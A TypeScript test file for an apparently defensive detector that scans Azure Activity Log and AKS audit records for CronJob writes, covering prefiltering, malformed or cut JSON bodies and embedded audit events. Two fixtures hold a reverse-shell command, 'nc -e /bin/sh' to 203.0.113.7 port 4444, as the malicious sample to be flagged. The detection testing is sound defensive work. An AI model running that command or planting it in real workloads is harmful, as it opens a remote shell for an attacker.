import { beforeAll, describe, expect, it } from 'vitest';
import type { RuleSet } from '../../src/rules/rule-set.js';
import { aksRecord, auditEvent, cronJobBody, podSpec } from '../helpers/audit.js';
import { activityRecord, bundledRuleSet, FIXED_CLOCK, processBatch } from '../helpers/detector.js';
import { azureDiagnosticsRow } from '../helpers/shapes.js';

const WRITE = 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE';
const READ = 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/READ';

/** `count` Activity Log records, CronJob writes at `writes`, each with its own correlation id. */
function activityText(count: number, writes: readonly number[]): string {
  const records = Array.from({ length: count }, (_, i) =>
    activityRecord(writes.includes(i) ? WRITE : READ, {
      correlationId: `6b0f3c2e-8d41-4a7e-b1c9-${String(i).padStart(12, '0')}`,
    }),
  );
  return JSON.stringify({ records });
}

describe('a body another record lets through is read record by record', () => {
  let ruleSet: RuleSet;
  beforeAll(async () => {
    ruleSet = await bundledRuleSet();
  });
  const run = (body: unknown, prefilter = true, anyShape = false) =>
    processBatch([{ body, origin: { event: 0 }, ...(anyShape ? { anyShape } : {}) }], {
      ruleSet,
      clock: FIXED_CLOCK,
      detectorVersion: 'test',
      prefilter,
    });
  const ids = (result: ReturnType<typeof run>) => result.findings.map((f) => f.SourceRecordId);

  it('parses only the records that may match, and counts the others unparsed', () => {
    // 70 records: more than one group of 32, writes in the second group and at the very end.
    const text = activityText(70, [40, 69]);
    const bytes = run(Buffer.from(text));
    const whole = run(text);
    expect(ids(bytes)).toEqual([
      '6b0f3c2e-8d41-4a7e-b1c9-000000000040',
      '6b0f3c2e-8d41-4a7e-b1c9-000000000069',
    ]);
    expect(bytes.findings).toEqual(whole.findings);
    expect(bytes.report).toMatchObject({ records: 70, prefilterUnparsedRecords: 68, unreadable: 0 });
    expect(bytes.report.bySource.AzureActivity).toBe(2);
    expect(whole.report).toMatchObject({ records: 70, prefilterUnparsedRecords: 0 });
    expect(whole.report.bySource.AzureActivity).toBe(70);
  });

  it('loses no finding to a record that does not parse, with the prefilter on or off', () => {
    const text = activityText(12, [3]).replace(
      '"correlationId":"6b0f3c2e-8d41-4a7e-b1c9-000000000010"',
      '"correlationId":6b0f',
    );
    expect(() => JSON.parse(text) as unknown).toThrow();
    const on = run(Buffer.from(text));
    const off = run(Buffer.from(text), false);
    expect(ids(on)).toEqual(['6b0f3c2e-8d41-4a7e-b1c9-000000000003']);
    expect(off.findings).toEqual(on.findings);
    // On, the spoilt record could not match and is never parsed; off, it is read and named.
    expect(on.report).toMatchObject({ records: 12, prefilterUnparsedRecords: 11, unreadable: 0 });
    expect(off.report.records).toBe(11);
    expect(off.report.problems.map((p) => p.message)).toEqual([
      expect.stringMatching(/^not JSON: .*; read record by record: 11 of 12 read$/),
      expect.stringMatching(/^body\.records\[10\]: not JSON: /),
    ]);
  });

  it('names a record that may match but does not parse, and the end of a cut body', () => {
    const spoilt = activityText(5, [1, 2]).replace(
      '"correlationId":"6b0f3c2e-8d41-4a7e-b1c9-000000000002"',
      '"correlationId":6b0f',
    );
    const cut = spoilt.slice(0, spoilt.indexOf('"correlationId":"6b0f3c2e-8d41-4a7e-b1c9-000000000004"'));
    const result = run(Buffer.from(cut));
    expect(ids(result)).toEqual(['6b0f3c2e-8d41-4a7e-b1c9-000000000001']);
    expect(result.report.problems).toEqual([
      { where: 'event 0, record 2', message: expect.stringMatching(/^not JSON: /) },
      {
        where: 'event 0',
        message: `not JSON from byte ${cut.length} (after 4 whole record(s)): the rest is not read`,
      },
    ]);
    expect(result.report).toMatchObject({ records: 3, prefilterUnparsedRecords: 2 });
  });

  it('decides an AKS record by its own embedded event', () => {
    const write = auditEvent({
      requestObject: cronJobBody(
        podSpec({ image: 'alpine:3.20', command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'] }),
      ),
    });
    const lease = auditEvent({ verb: 'update', resource: 'leases' });
    const text = JSON.stringify({ records: [aksRecord(lease), aksRecord(write), aksRecord(lease)] });
    const result = run(Buffer.from(text));
    expect(result.findings).toHaveLength(1);
    expect(result.findings).toEqual(run(text).findings);
    expect(result.report).toMatchObject({
      records: 3,
      prefilterUnparsedRecords: 2,
      prefilterSkippedRecords: 0,
    });
  });

  it('reads a file line whole when it may hold a record of another shape', () => {
    const event = auditEvent({
      requestObject: cronJobBody(
        podSpec({ image: 'alpine:3.20', command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'] }),
      ),
    });
    const line = Buffer.from(JSON.stringify({ records: [activityRecord(READ), azureDiagnosticsRow(event)] }));
    const result = run(line, true, true);
    expect(result.findings).toHaveLength(1);
    expect(result.report).toMatchObject({ records: 2, prefilterUnparsedRecords: 0 });
  });
});
